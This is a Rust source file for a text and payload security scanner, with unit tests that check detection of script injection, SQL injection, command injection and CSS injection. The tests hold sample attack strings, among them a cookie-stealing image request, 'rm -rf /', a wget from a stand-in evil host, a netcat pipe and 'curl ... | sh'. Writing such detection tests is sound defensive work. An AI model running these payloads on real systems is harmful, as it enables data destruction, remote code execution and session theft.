//! Security scanner
//!
//! One compiled rule set, shared across threads behind an `Arc`. Each call
//! is independent; the only mutable piece is the URL blocklist, which can
//! be extended at runtime.

use parking_lot::RwLock;
use regex::Regex;
use serde::{Deserialize, Serialize};
use tracing::debug;

use lms_common::{GuardError, GuardResult};

use crate::encoding::{normalize_for_matching, Decoder};
use crate::patterns::PatternSet;
use crate::payload::{DeclaredType, PayloadInspector, PayloadLimits, PayloadReport};
use crate::rules::default_rules;
use crate::url_risk::{UrlPolicy, URL_PATTERN};
use crate::{Finding, ScanReport, ThreatCategory};

/// URLs checked per string
const MAX_URLS_PER_TEXT: usize = 256;

/// Scanner configuration
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(default)]
pub struct ScannerConfig {
    /// Longest string (bytes) that gets the decode-and-rescan treatment
    pub max_decode_len: usize,
    /// Nested decoding layers (`%26lt%3B` needs two)
    pub decode_rounds: usize,
    /// Decoded variants kept per string
    pub max_decoded_variants: usize,
    /// Base64 runs decoded per string
    pub max_base64_segments: usize,
    /// Domain lists for URL risk
    pub url_policy: UrlPolicy,
    /// Payload thresholds
    pub payload_limits: PayloadLimits,
}

impl Default for ScannerConfig {
    fn default() -> Self {
        Self {
            max_decode_len: 16 * 1024 * 1024,
            decode_rounds: 2,
            max_decoded_variants: 8,
            max_base64_segments: 64,
            url_policy: UrlPolicy::default(),
            payload_limits: PayloadLimits::default(),
        }
    }
}

/// Stateless classifier for strings and byte buffers
pub struct SecurityScanner {
    patterns: PatternSet,
    decoder: Decoder,
    urls: Regex,
    url_policy: RwLock<UrlPolicy>,
    payload: PayloadInspector,
    max_decode_len: usize,
}

impl SecurityScanner {
    /// Compile rules and decoders
    pub fn new(config: ScannerConfig) -> GuardResult<Self> {
        let patterns = PatternSet::build(default_rules())?;
        let decoder = Decoder::new(
            config.decode_rounds,
            config.max_decoded_variants,
            config.max_base64_segments,
        )?;
        let urls = Regex::new(URL_PATTERN).map_err(|e| GuardError::PatternCompile {
            rule: "url_extraction".to_string(),
            reason: e.to_string(),
        })?;
        let payload = PayloadInspector::new(config.payload_limits)?;

        debug!(rules = patterns.pattern_count(), "security scanner ready");

        Ok(Self {
            patterns,
            decoder,
            urls,
            url_policy: RwLock::new(config.url_policy),
            payload,
            max_decode_len: config.max_decode_len,
        })
    }

    /// Scanner with default configuration
    pub fn with_defaults() -> GuardResult<Self> {
        Self::new(ScannerConfig::default())
    }

    /// Classify a string under every text category
    pub fn scan_text(&self, text: &str) -> ScanReport {
        let mut report = ScanReport::default();
        let normalized = normalize_for_matching(text);

        for rule in self.patterns.matching_rules(&normalized) {
            report.push(Finding::new(rule.category, rule.name.as_str(), rule.severity));
        }

        self.scan_urls(&normalized, &mut report);

        if normalized.len() <= self.max_decode_len {
            for variant in self.decoder.decode_layers(&normalized) {
                let variant = normalize_for_matching(&variant);
                for rule in self.patterns.matching_rules(&variant) {
                    let mut finding = Finding::new(rule.category, rule.name.as_str(), rule.severity);
                    finding.encoded = true;
                    report.push(finding);
                }
            }
        }

        if report.is_malicious() {
            debug!(
                findings = report.findings.len(),
                categories = ?report.categories(),
                "dangerous content matched"
            );
        }

        report
    }

    /// Whether `text` matches anything in `category`
    pub fn detect(&self, text: &str, category: ThreatCategory) -> bool {
        self.scan_text(text).has(category)
    }

    /// Whether `text` matches anything at all
    pub fn is_malicious(&self, text: &str) -> bool {
        self.scan_text(text).is_malicious()
    }

    /// Inspect a raw buffer. Buffers declared as text that decode as UTF-8
    /// are also run through the text scan.
    pub fn inspect_payload(&self, data: &[u8], declared: DeclaredType) -> PayloadReport {
        let mut report = self.payload.inspect(data, declared);

        if declared == DeclaredType::Text {
            if let Ok(text) = std::str::from_utf8(data) {
                report.findings.extend(self.scan_text(text).findings);
            }
        }

        if report.is_malicious() {
            debug!(
                size = report.size,
                formats = ?report.formats,
                findings = report.findings.len(),
                "payload flagged"
            );
        }

        report
    }

    /// Add a domain to the malicious list
    pub fn add_malicious_domain(&self, domain: &str) {
        self.url_policy
            .write()
            .malicious_domains
            .insert(domain.trim().trim_end_matches('.').to_ascii_lowercase());
    }

    /// Current URL policy
    pub fn url_policy(&self) -> UrlPolicy {
        self.url_policy.read().clone()
    }

    /// Payload thresholds
    pub fn payload_limits(&self) -> &PayloadLimits {
        self.payload.limits()
    }

    fn scan_urls(&self, text: &str, report: &mut ScanReport) {
        if !text.contains("://") {
            return;
        }

        let policy = self.url_policy.read();
        for m in self.urls.find_iter(text).take(MAX_URLS_PER_TEXT) {
            let url = m.as_str().trim_end_matches(['.', ',', ';', ':', '!', '?']);
            for finding in policy.findings(url) {
                report.push(finding);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scanner() -> SecurityScanner {
        SecurityScanner::with_defaults().unwrap()
    }

    #[test]
    fn test_script_injection() {
        let s = scanner();
        for sample in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<a href=\"javascript:alert(1)\">click</a>",
            "<a href=\"data:text/html,hi\">x</a>",
            "String.fromCharCode(88,83,83)",
            "new Image().src = '//x.example/?' + document.cookie",
            "document.write('<b>hi</b>')",
            "<iframe src=\"https://example.com\"></iframe>",
        ] {
            assert!(s.detect(sample, ThreatCategory::ScriptInjection), "{sample}");
        }
    }

    #[test]
    fn test_mutation_xss() {
        let s = scanner();
        for sample in [
            "<svg onload=alert(1)>",
            "<iframe srcdoc=\"&lt;script&gt;\">",
            "<input autofocus onfocus=alert(1)>",
            "<details open ontoggle=alert(1)>",
        ] {
            assert!(s.detect(sample, ThreatCategory::MutationXss), "{sample}");
        }
    }

    #[test]
    fn test_sql_injection() {
        let s = scanner();
        for sample in [
            "' OR 1=1 --",
            "admin'--",
            "1; DROP TABLE users",
            "x' UNION SELECT password FROM users",
            "1' AND SLEEP(5)",
            "'; WAITFOR DELAY '0:0:5'--",
            "1 OR 1=1",
            "x') or true --",
            "'; select pg_sleep(10)",
        ] {
            assert!(s.detect(sample, ThreatCategory::SqlInjection), "{sample}");
        }
    }

    #[test]
    fn test_command_injection() {
        let s = scanner();
        for sample in [
            "; rm -rf /",
            "&& wget http://evil.example/x.sh",
            "| nc 10.0.0.1 4444",
            "$(whoami)",
            "curl https://x.example/i.sh | sh",
            "chmod 777 /tmp/x",
        ] {
            assert!(s.detect(sample, ThreatCategory::CommandInjection), "{sample}");
        }
    }

    #[test]
    fn test_css_injection() {
        let s = scanner();
        for sample in [
            "width: expression(alert(1))",
            "background: url('javascript:alert(1)')",
            "behavior: url(x.htc)",
            "@import url(evil.css)",
            "-moz-binding: url(x.xml#xss)",
            "<div style=\"width:expression(alert(1))\">",
        ] {
            assert!(s.detect(sample, ThreatCategory::CssInjection), "{sample}");
        }
    }

    #[test]
    fn test_benign_text_is_clean_everywhere() {
        let s = scanner();
        for sample in [
            "What is GDPR compliance?",
            "Café 你好 مرحبا 🎮",
            "Select the correct answer, then delete the wrong ones.",
            "The expression of interest is due Friday; drop the table of contents.",
            "Kommunen må behandle personopplysninger lovlig, rettferdig og åpent.",
            "Use & and | carefully: 5 < 6 and 7 > 3.",
            "Read more at https://www.datatilsynet.no/regelverk-og-verktoy/",
            "👨‍👩‍👧 family emoji stays intact",
            "Print the document. Write your name at the bottom.",
            "Save the document. Domain experts review it later.",
            "Keep the document. Cookie banners must offer a real choice.",
            "Key term: expression (how a person shows feelings).",
            "Is this statement false or true?",
            "Adults need enough sleep (7 to 9 hours) each night.",
        ] {
            let report = s.scan_text(sample);
            assert!(!report.is_malicious(), "{sample}: {:?}", report.findings);
            for category in ThreatCategory::ALL {
                assert!(!s.detect(sample, category));
            }
        }
    }

    #[test]
    fn test_entity_encoded_script() {
        let s = scanner();
        let report = s.scan_text("&lt;script&gt;alert(1)&lt;/script&gt;");
        let finding = report
            .findings
            .iter()
            .find(|f| f.rule == "script_tag")
            .unwrap();
        assert!(finding.encoded);
    }

    #[test]
    fn test_encoded_variants() {
        let s = scanner();
        assert!(s.detect("%3Cscript%3Ealert(1)%3C/script%3E", ThreatCategory::ScriptInjection));
        assert!(s.detect(r"\x3cscript\x3ealert(1)", ThreatCategory::ScriptInjection));
        assert!(s.detect("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", ThreatCategory::ScriptInjection));
        assert!(s.detect("&#106;avascript:alert(1)", ThreatCategory::ScriptInjection));
    }

    #[test]
    fn test_zero_width_split() {
        let s = scanner();
        assert!(s.detect("java\u{200B}script:alert(1)", ThreatCategory::ScriptInjection));
    }

    #[test]
    fn test_url_risk() {
        let s = scanner();
        let report = s.scan_text("Visit http://192.168.0.1/login or https://bit.ly/abc.");
        let rules: Vec<&str> = report.findings.iter().map(|f| f.rule.as_str()).collect();
        assert!(rules.contains(&"ip_literal_host"));
        assert!(rules.contains(&"shortener_domain"));
        assert!(report.findings.iter().all(|f| f.category == ThreatCategory::UrlRisk));
    }

    #[test]
    fn test_runtime_blocklist() {
        let s = scanner();
        assert!(!s.detect("https://cdn.phish.example/x", ThreatCategory::UrlRisk));
        s.add_malicious_domain("Phish.Example.");
        assert!(s.detect("https://cdn.phish.example/x", ThreatCategory::UrlRisk));
        assert!(s.url_policy().malicious_domains.contains("phish.example"));
    }

    #[test]
    fn test_inspect_payload_text_merges_scan() {
        let s = scanner();
        let report = s.inspect_payload(b"hello <script>x()</script>", DeclaredType::Text);
        assert!(report.findings.iter().any(|f| f.category == ThreatCategory::ScriptInjection));

        let clean = s.inspect_payload("Velkommen til kurset".as_bytes(), DeclaredType::Text);
        assert!(!clean.is_malicious());
    }

    #[test]
    fn test_scanner_is_shareable() {
        fn assert_send_sync<T: Send + Sync>() {}
        assert_send_sync::<SecurityScanner>();
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(64))]

        #[test]
        fn scan_never_panics(text in "\\PC{0,256}") {
            let report = scanner().scan_text(&text);
            proptest::prop_assert!(report.findings.len() <= 64);
        }

        #[test]
        fn payload_never_panics(data in proptest::collection::vec(proptest::num::u8::ANY, 0..1024)) {
            let report = scanner().inspect_payload(&data, DeclaredType::Text);
            proptest::prop_assert_eq!(report.size, data.len());
        }
    }
}
